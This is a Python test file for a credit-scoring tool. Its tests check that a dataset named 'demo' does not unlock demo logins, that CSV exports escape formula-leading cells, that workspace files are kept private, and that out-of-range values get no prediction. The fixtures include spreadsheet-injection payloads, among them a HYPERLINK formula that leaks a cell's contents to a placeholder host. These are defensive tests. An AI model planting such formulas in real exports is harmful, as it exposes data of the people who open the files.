"""Hostile inputs, the smaller items of issue 15: a real file named ``demo`` (demo accounts stay refused),
formula-leading cells in score / features CSV outputs, private workspace files."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pandas as pd
import pytest

from profile_core.auth import (
    AuthError,
    User,
    UsersConfig,
    authenticate,
    hash_password,
    mark_demo,
    workspace_is_demo,
)
from profile_core.bundle import load_bundle
from profile_core.features import build_features_from_frames
from profile_core.scoring import score_file
from profile_core.store import Workspace
from profile_core.synth import generate_portfolio

ROOT = Path(__file__).resolve().parents[1]
BUNDLE = ROOT / "models" / "demo"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def tables():
    return generate_portfolio(60, seed=3).tables()


def test_a_file_named_demo_is_real_data(tmp_path, tables):
    from profile_core.ingest import load_into_workspace

    csv = tables["customers"].to_csv(index=False).encode("utf-8")
    pw = hash_password("demo-2024", rounds=4)
    config = UsersConfig({"admin01": User("admin01", "admin", demo=True, password_hash=pw)}, "demo-2024")
    with Workspace(tmp_path / "ws.duckdb") as ws:
        result = load_into_workspace([("demo", csv)], ws, dataset="demo")  # `python -m profile_core load demo`
        assert result.version is not None and ws.list_datasets()["source"].tolist() == ["demo"]
        assert not workspace_is_demo(ws)  # the name decides nothing
        with pytest.raises(AuthError) as err:  # the public demo password opens nothing
            authenticate(config, "admin01", "demo-2024", demo_allowed=workspace_is_demo(ws))
        assert err.value.key == "auth.demo_refused"
        mark_demo(ws, "demo")  # only the demo generator's marker makes it demo data
        assert workspace_is_demo(ws)
        assert authenticate(config, "admin01", "demo-2024", demo_allowed=workspace_is_demo(ws)).username == "admin01"


def _features_csv(tables, path: Path) -> pd.DataFrame:
    features = build_features_from_frames(tables)
    features["customer_id"] = features["customer_id"].astype(object)
    features.loc[features.index[0], "customer_id"] = FORMULA
    features.to_csv(path, index=False)
    return features


def test_score_file_csv_output_is_formula_safe(tmp_path, tables):
    bundle = load_bundle(BUNDLE)
    src = tmp_path / "features.csv"
    _features_csv(tables, src)
    out = tmp_path / "scores.csv"
    score_file(bundle, src, out, progress=False)
    text = out.read_text(encoding="utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in text  # quoted by the CSV writer, apostrophe first
    assert "\n=" not in text and ",=" not in text
    scored = pd.read_csv(out)
    assert scored["customer_id"].iloc[0] == "'" + FORMULA
    assert pd.api.types.is_numeric_dtype(scored["points"])  # numbers stay numbers


def test_cli_score_and_features_csv_outputs_are_formula_safe(tmp_path, tables):
    from profile_core.cli import main

    customers = tables["customers"].copy()
    customers["customer_id"] = customers["customer_id"].astype(object)
    first = customers["customer_id"].iloc[0]
    renamed = {name: frame.assign(customer_id=frame["customer_id"].astype(object).replace(first, "@SUM(1+1)"))
               for name, frame in tables.items()}
    ws = tmp_path / "ws.duckdb"
    with Workspace(ws) as w:
        w.replace_dataset("main", renamed)
    feats = tmp_path / "features.csv"
    assert main(["features", "--data", "workspace:main", "--workspace", str(ws), "--out", str(feats)]) == 0
    assert "'@SUM(1+1)" in feats.read_text(encoding="utf-8-sig")
    scores = tmp_path / "scores.csv"
    assert main(["score", "--bundle", str(BUNDLE), "--data", "workspace:main", "--workspace", str(ws),
                 "--out", str(scores)]) == 0
    text = scores.read_text(encoding="utf-8-sig")
    assert "'@SUM(1+1)" in text and "\n@" not in text


def test_workspace_and_wal_are_private(tmp_path, tables):
    path = tmp_path / "ws.duckdb"
    with Workspace(path) as ws:
        ws.replace_dataset("main", {"customers": tables["customers"]})
        ws.con.execute("CREATE TABLE t (x INTEGER)")
        ws.con.execute("INSERT INTO t VALUES (1)")  # uncheckpointed: the WAL exists now
        wal = Path(f"{path}.wal")
        assert wal.exists() and stat.S_IMODE(os.stat(wal).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    old = tmp_path / "old.duckdb"  # a workspace created world-readable by an older version
    with Workspace(old) as ws:
        ws.list_datasets()
    old.chmod(0o644)
    with Workspace(old) as ws:
        ws.list_datasets()
    assert stat.S_IMODE(os.stat(old).st_mode) == 0o600


def test_batch_scoring_gives_no_prediction_for_out_of_range_numbers(tmp_path, tables):
    bundle = load_bundle(BUNDLE)
    src = tmp_path / "features.csv"
    features = _features_csv(tables, src)
    col = bundle.preprocessor.numeric[0]
    frame = pd.read_csv(src, dtype={"customer_id": str})
    frame[col] = frame[col].astype(float)
    frame.loc[1, col], frame.loc[2, col] = 1e308, -float("inf")
    frame.to_csv(src, index=False)
    stats = score_file(bundle, src, tmp_path / "scores.parquet", progress=False)
    assert stats.rows == len(features) and stats.out_of_range_rows == 2
    scored = pd.read_parquet(tmp_path / "scores.parquet")
    assert scored.loc[[1, 2], "default_prob"].isna().all() and scored.loc[[1, 2], "pd_grade"].isna().all()
    assert scored.loc[[1, 2], "risk_level_pred"].isna().all()  # not the first class ("A") of NaN probabilities
    assert scored.drop(index=[1, 2])["default_prob"].notna().all()
